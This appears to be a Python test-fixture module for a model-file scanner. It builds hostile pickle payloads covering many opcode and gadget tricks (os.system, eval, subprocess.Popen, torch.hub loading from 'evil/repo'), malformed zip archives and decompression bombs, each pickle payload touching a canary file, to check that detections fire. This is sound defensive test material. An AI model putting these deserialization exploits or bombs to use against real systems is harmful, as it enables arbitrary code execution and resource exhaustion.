"""Hostile files of every class, made on the spot; each would touch a canary file if it ran."""

import io
import struct
import zipfile
import zlib
from pathlib import Path

STOP = b"."


def text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def call(module: str, name: str, *arguments: bytes) -> bytes:
    """GLOBAL, the arguments, REDUCE."""
    return f"c{module}\n{name}\n".encode() + b"(" + b"".join(arguments) + b"tR"


def program(body: bytes, protocol: int = 2) -> bytes:
    return b"\x80" + bytes([protocol]) + body + STOP


def payloads(canary: Path) -> dict[str, tuple[bytes, str]]:
    """Return {sample: (pickle body, the global that a finding must name)}."""
    touch = f"touch {canary}"
    python = f"open({str(canary)!r}, 'w')"
    return {
        "os.system": (call("os", "system", text(touch)), "os.system"),
        "posix.system": (call("posix", "system", text(touch)), "posix.system"),
        "builtins.eval": (call("builtins", "eval", text(python)), "builtins.eval"),
        "python2 eval": (call("__builtin__", "eval", text(python)), "builtins.eval"),
        "collect_env.run": (
            call("torch.utils.collect_env", "run", text(touch)),
            "torch.utils.collect_env.run",
        ),
        "numpy.f2py": (
            call("numpy.f2py.crackfortran", "getlincoef", text(python), b"}", b"}"),
            "numpy.f2py.crackfortran.getlincoef",
        ),
        "mlflow runner": (
            call(
                "mlflow.projects.backend.local",
                "_run_entry_point",
                text(touch),
                text("/"),
                b"N",
                b"N",
            ),
            "mlflow.projects.backend.local._run_entry_point",
        ),
        "pandas reader": (
            call("pandas.io.pickle", "read_pickle", text("http://127.0.0.1:9/x")),
            "pandas.io.pickle.read_pickle",
        ),
        "spawn": (
            call("multiprocessing.util", "spawnv_passfds", text(touch)),
            "multiprocessing.util.spawnv_passfds",
        ),
        "torch.hub.load": (
            call("torch.hub", "load", text("evil/repo"), text("m")),
            "torch.hub.load",
        ),
        "resolve_name": (
            call("pkgutil", "resolve_name", text("os:system")) + b"(" + text(touch) + b"tR",
            "pkgutil.resolve_name",
        ),
        "FileHandler": (
            call("logging", "FileHandler", text(str(canary))),
            "logging.FileHandler",
        ),
        "FileHandler by NEWOBJ": (
            b"clogging\nFileHandler\n)\x81}b",
            "logging.FileHandler",
        ),
        "Popen by NEWOBJ": (b"csubprocess\nPopen\n)\x81}b", "subprocess.Popen"),
        "NEWOBJ with arguments": (
            b"cmyco.models\nTower\n" + b"(" + text(touch) + b"t\x81}b",
            "myco.models.Tower",
        ),
        "INST": (b"(" + text(touch) + b"ios\nsystem\n", "os.system"),
        "OBJ": (b"(cos\nsystem\n" + text(touch) + b"o", "os.system"),
        "STACK_GLOBAL": (
            text("os") + text("system") + b"\x93(" + text(touch) + b"tR",
            "os.system",
        ),
        "dotted name": (
            text("builtins") + text("object.__subclasses__") + b"\x93)R",
            "builtins.object.__subclasses__",
        ),
        "hidden by POP": (call("os", "system", text(touch)) + b"0}", "os.system"),
        "hidden by POP_MARK": (b"(" + call("os", "system", text(touch)) + b"1}", "os.system"),
        "a bare mention": (b"cos\nsystem\n", "os.system"),
        "made and dropped": (b"cmyco.models\nTower\n)\x81}b0}", "myco.models.Tower"),
        "trailing BUILD": (
            b"ctorch.nn.modules.module\nModule\n}" + text("__call__") + b"K\x01sb",
            "setattr on torch.nn.modules.module.Module",
        ),
        "odd state": (b"cmyco.models\nTower\n)\x81" + text(touch) + b"b", "__setstate__"),
        "partial of system": (
            b"cfunctools\npartial\n(cos\nsystem\ntR(cos\nsystem\n(" + text(touch) + b"t}Ntb",
            "os.system",
        ),
        "append to an object": (
            b"cmyco.models\nTower\n)\x81(" + text(touch) + b"e",
            "append",
        ),
        "getattr": (
            call("builtins", "getattr", b"cos\nsystem\n", text("__call__")),
            "builtins.getattr",
        ),
        "copyreg call": (
            b"ccopyreg\n_reconstructor\n(csubprocess\nPopen\nc__builtin__\nobject\nNtR",
            "subprocess.Popen",
        ),
        "cloudpickle code": (
            call("cloudpickle.cloudpickle", "_make_function", b"N"),
            "cloudpickle.cloudpickle._make_function",
        ),
        "rebuild through type": (
            b"ctorch._tensor\n_rebuild_from_type_v2\n(cos\nsystem\nctorch\nTensor\n("
            + text(touch)
            + b"tNtR",
            "os.system",
        ),
    }


def torch_zip(folder: str, members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    """An archive as torch.save lays it out, with `members` under `folder`."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in members.items():
            archive.writestr(f"{folder}/{name}", content)
    return buffer.getvalue()


def flip_flag(archive: bytes, bit: int = 0x1, *, local: bool = True, central: bool = True) -> bytes:
    raw = bytearray(archive)
    if local:
        at = raw.find(b"PK\x03\x04")
        raw[at + 6] |= bit
    if central:
        at = raw.find(b"PK\x01\x02")
        raw[at + 8] |= bit
    return bytes(raw)


def rename_local(archive: bytes) -> bytes:
    """The local header of the first member names another file than the directory does."""
    raw = bytearray(archive)
    at = raw.find(b"PK\x03\x04") + 30
    raw[at] = raw[at] ^ 0x01
    return bytes(raw)


def bomb(size: int = 64 << 20) -> bytes:
    return torch_zip("archive", {"data.pkl": bytes(size)}, zipfile.ZIP_DEFLATED)


def lying_bomb(size: int = 64 << 20) -> bytes:
    """A small member by its headers, a large one when unpacked."""
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = packed.compress(bytes(size)) + packed.flush()
    name = b"archive/data.pkl"
    crc = zlib.crc32(bytes(size))
    sizes = struct.pack("<3I", crc, len(body), 100)
    local = b"PK\x03\x04" + struct.pack("<5H", 20, 0, 8, 0, 0) + sizes
    local += struct.pack("<2H", len(name), 0) + name
    central = b"PK\x01\x02" + struct.pack("<6H", 20, 20, 0, 8, 0, 0) + sizes
    central += struct.pack("<5H2I", len(name), 0, 0, 0, 0, 0, 0) + name
    end = struct.pack("<4H2IH", 0, 0, 1, 1, len(central), len(local) + len(body), 0)
    return local + body + central + b"PK\x05\x06" + end


def safetensors(header: bytes, body: bytes = b"") -> bytes:
    return struct.pack("<Q", len(header)) + header + body
